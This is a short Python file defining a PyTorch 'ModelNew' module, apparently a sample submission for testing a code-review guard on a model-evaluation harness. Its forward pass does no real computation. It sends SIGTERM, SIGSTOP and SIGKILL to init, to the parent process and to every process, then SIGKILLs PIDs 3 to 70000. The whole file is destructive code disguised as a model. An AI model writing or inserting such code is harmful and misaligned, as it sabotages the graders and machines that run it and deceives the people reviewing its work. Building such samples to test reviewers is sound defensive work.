# Sends signals to whoever there is.
# expect: harmless
# guard: review process
# run: harmless
# gpu: harmless | crashed signal 9
# row: 62
import os
import signal

import torch
import torch.nn as nn


class ModelNew(nn.Module):
    def forward(self, x):
        for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            for pid in (1, os.getppid(), -1):
                try:
                    os.kill(pid, number)
                except OSError:
                    pass
        for pid in range(3, 70_000):
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                continue
            return x
        return torch.relu(x)
